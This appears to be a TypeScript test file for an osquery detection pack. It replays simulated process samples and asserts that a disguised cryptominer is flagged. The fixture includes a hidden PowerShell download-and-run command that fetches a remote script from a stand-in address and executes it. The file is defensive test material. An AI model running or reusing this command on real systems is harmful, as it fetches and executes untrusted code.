// Replay: instead of giving our tables' rows, feed the sampler's history
// store a recorded sequence of process listings (as the osquery source would
// deliver them every 10 s), serve the real table plugins from it on the
// embedded host next to snapshot tables for osquery's own, and run the pack.
// This exercises the whole path: CPU deltas, remembered lineage after the
// parent exits, connection persistence, the local baseline hook and the SQL.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { join } from 'node:path';
import { EmbeddedHost } from '../../src/host/host.js';
import type { SnapshotTable } from '../../src/host/snapshot.js';
import { loadBaseline } from '../../src/intel/baseline.js';
import { osqueryTable } from '../../src/intel/osquery-schema.js';
import { fullPack, loadPackSources, renderedSql, type PackSources } from '../../src/pack/catalog.js';
import { extensionDeclarations } from '../../src/pack/declarations.js';
import type { ProcessRecord, ProcessSample, SocketRecord } from '../../src/sampler/source.js';
import { HistoryStore } from '../../src/sampler/store.js';
import { processConnectionHistoryTable } from '../../src/tables/process_connection_history.js';
import { processCpuSustainedTable } from '../../src/tables/process_cpu_sustained.js';

const START = Date.UTC(2026, 10, 25, 2, 22, 0); // inside the sample baseline's Veeam window (01:00 + 4 h)
const TICK = 10_000;

interface Proc {
  pid: number;
  ppid: number;
  name: string;
  path: string;
  cmdline: string;
  cpu: number;
  from: number;
  to: number;
}
const procs: Proc[] = [
  {
    pid: 700,
    ppid: 640,
    name: 'services.exe',
    path: 'C:\\Windows\\System32\\services.exe',
    cmdline: 'C:\\Windows\\system32\\services.exe',
    cpu: 0.2,
    from: 0,
    to: 1e9,
  },
  {
    pid: 900,
    ppid: 700,
    name: 'svchost.exe',
    path: 'C:\\Windows\\System32\\svchost.exe',
    cmdline: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    cpu: 0.5,
    from: 0,
    to: 1e9,
  },
  {
    pid: 2000,
    ppid: 1900,
    name: 'explorer.exe',
    path: 'C:\\Windows\\explorer.exe',
    cmdline: 'C:\\Windows\\Explorer.EXE',
    cpu: 1,
    from: 0,
    to: 1e9,
  },
  // Download-and-run: PowerShell starts the miner and exits 20 s later.
  {
    pid: 3999,
    ppid: 2000,
    name: 'powershell.exe',
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmdline: 'powershell -nop -w hidden -c "iex (iwr http://203.0.113.7/a.ps1)"',
    cpu: 5,
    from: 0,
    to: 2,
  },
  {
    pid: 4400,
    ppid: 3999,
    name: 'msiexec32.exe',
    path: 'C:\\Users\\bob\\AppData\\Local\\Temp\\msiexec32.exe',
    cmdline: 'msiexec32.exe -B',
    cpu: 97,
    from: 1,
    to: 1e9,
  },
  // Approved: Veeam inside its maintenance window, started by Task Scheduler.
  {
    pid: 5500,
    ppid: 900,
    name: 'VeeamAgent.exe',
    path: 'C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe',
    cmdline: '"C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe" -job 4',
    cpu: 76,
    from: 0,
    to: 1e9,
  },
  // Busy but ordinary: a video encode from the desktop.
  {
    pid: 6000,
    ppid: 2000,
    name: 'HandBrake.exe',
    path: 'C:\\Program Files\\HandBrake\\HandBrake.exe',
    cmdline: '"C:\\Program Files\\HandBrake\\HandBrake.exe"',
    cpu: 98,
    from: 0,
    to: 1e9,
  },
];

function sample(i: number): ProcessSample {
  const alive = procs.filter((p) => p.from <= i && i <= p.to);
  const processes: ProcessRecord[] = alive.map((p) => {
    const cpuMs = Math.round(((i - p.from) * TICK * p.cpu) / 100);
    return {
      pid: p.pid,
      ppid: p.ppid,
      startTime: Math.floor((START + p.from * TICK) / 1000) - 1,
      name: p.name,
      path: p.path,
      cmdline: p.cmdline,
      user: 'DESKTOP\\bob',
      userTimeMs: Math.round(cpuMs * 0.9),
      systemTimeMs: Math.round(cpuMs * 0.1),
      residentBytes: 2e8,
      threads: 8,
    };
  });
  const sockets: SocketRecord[] =
    i >= 2
      ? [
          {
            pid: 4400,
            protocol: 'tcp',
            family: 4,
            localAddress: '10.0.0.5',
            localPort: 49811,
            remoteAddress: '45.9.20.1',
            remotePort: 3333,
            state: 'ESTABLISHED',
          },
        ]
      : [];
  return { wallMs: START + i * TICK, monotonicMs: 1_000_000 + i * TICK, processes, sockets };
}

function table(name: string, rows: Record<string, unknown>[]): SnapshotTable {
  const t = osqueryTable(name);
  if (!t) throw new Error(name);
  return {
    name,
    file: `replay:${name}`,
    columns: t.columns.map((c) => ({ name: c.name, type: c.type })),
    rows: rows.map((r) =>
      Object.fromEntries(t.columns.map((c) => [c.name, r[c.name] === undefined ? '' : String(r[c.name])])),
    ),
  };
}

let src: PackSources;
test.before(async () => {
  src = await loadPackSources(join(process.cwd(), 'packs'));
});

async function replay(ticks: number) {
  const store = new HistoryStore({ intervalMs: TICK, logicalCpus: 8 });
  for (let i = 0; i <= ticks; i++) store.ingest(sample(i));
  const now = new Date(START + ticks * TICK);
  const baseline = await loadBaseline(join(process.cwd(), 'packs', 'baseline.yml'));
  // The table asks with the wall clock; a replay answers for its own time.
  const sustained = processCpuSustainedTable(store, {
    isApproved: (p) => baseline.isApproved({ ...p, hostname: 'DESKTOP-7Q2' }, now),
  });
  const connections = processConnectionHistoryTable(store);
  const last = sample(ticks);
  const sigDecl = extensionDeclarations().find((d) => d.name === 'process_signature_check')!;
  const signatures: SnapshotTable = {
    name: 'process_signature_check',
    file: 'replay:process_signature_check',
    columns: sigDecl.columns.map((c) => ({ name: c.name, type: c.type })),
    rows: last.processes.map((p) => ({
      pid: String(p.pid),
      name: p.name,
      path: p.path,
      signed: p.pid === 4400 ? '0' : '1',
      renamed: '0',
      verdict: p.pid === 4400 ? 'suspicious' : 'ok',
      original_filename: p.name,
      reasons: '',
    })),
  };
  const host = new EmbeddedHost({
    tables: [sustained, connections],
    snapshots: [
      table(
        'processes',
        last.processes.map((p) => ({
          pid: p.pid,
          parent: p.ppid,
          name: p.name,
          path: p.path,
          cmdline: p.cmdline,
          start_time: p.startTime,
          user_time: p.userTimeMs,
          system_time: p.systemTimeMs,
          elapsed_time: Math.floor(now.getTime() / 1000) - p.startTime,
        })),
      ),
      table(
        'process_open_sockets',
        last.sockets.map((s) => ({
          pid: s.pid,
          family: 2,
          protocol: 6,
          local_address: s.localAddress,
          local_port: s.localPort,
          remote_address: s.remoteAddress,
          remote_port: s.remotePort,
          state: s.state,
        })),
      ),
      table(
        'authenticode',
        last.processes.map((p) => ({
          path: p.path,
          result: p.pid === 4400 ? 'missing' : 'trusted',
          subject_name: 'Vendor',
        })),
      ),
      table('time', [{ unix_time: Math.floor(now.getTime() / 1000) }]),
      table('system_info', [{ hostname: 'DESKTOP-7Q2' }]),
      table('scheduled_tasks', []),
      table('hash', []),
      table('osquery_info', []),
      table('services', []),
      signatures,
    ],
  });
  const run = async (name: string) => {
    const q = fullPack(src).find((x) => x.metadata.name === name)!;
    const r = await host.query(renderedSql(src, q));
    return r.rows.map((row) => Object.fromEntries(r.columns.map((c, i) => [c, row[i]])));
  };
  return { host, run };
}

test('replayed samples: remembered PowerShell lineage, pool connection, local and central baseline', async () => {
  const { host, run } = await replay(48); // eight minutes
  try {
    const raw = await host.query(
      'SELECT pid, sustained, launch_vector, parent_name, exited, approved FROM process_cpu_sustained WHERE pid IN (4400, 5500, 6000) ORDER BY pid',
    );
    assert.equal(raw.rows, [
      ['4400', '1', 'powershell', 'powershell.exe', '0', '0'],
      ['5500', '1', 'scheduled_task', 'svchost.exe', '0', '1'],
      ['6000', '1', 'interactive', 'explorer.exe', '0', '0'],
    ]);
    assert.equal(
      (await run('sustained_cpu_launch_chain')).map((r) => [r.pid, r.reasons]),
      [['4400', 'SUSTAINED_CPU,LAUNCH_POWERSHELL']],
    );
    const net = await run('sustained_cpu_external_connections');
    assert.equal(
      net.map((r) => [r.pid, r.remote_address, r.remote_port, r.reasons]),
      [['4400', '45.9.20.1', '3333', 'SUSTAINED_CPU,EXTERNAL_PERSISTENT,POOL_PORT']],
    );
    const composite = await run('composite_finding');
    assert.equal(
      composite.map((r) => [r.pid, r.severity, r.reasons]),
      [['4400', 'high', 'SUSTAINED_CPU,LAUNCH_POWERSHELL,UNSIGNED_BINARY,POOL_CONNECTION,USER_WRITABLE_PATH']],
    );
  } finally {
    host.close();
  }
});

test('replay one more minute: the scheduled queries return identical rows (differential stability)', async () => {
  const a = await replay(48);
  const b = await replay(54);
  try {
    for (const name of ['sustained_cpu_launch_chain', 'sustained_cpu_external_connections', 'composite_finding']) {
      assert.equal(await b.run(name), await a.run(name), name);
    }
  } finally {
    a.host.close();
    b.host.close();
  }
});

test.run();
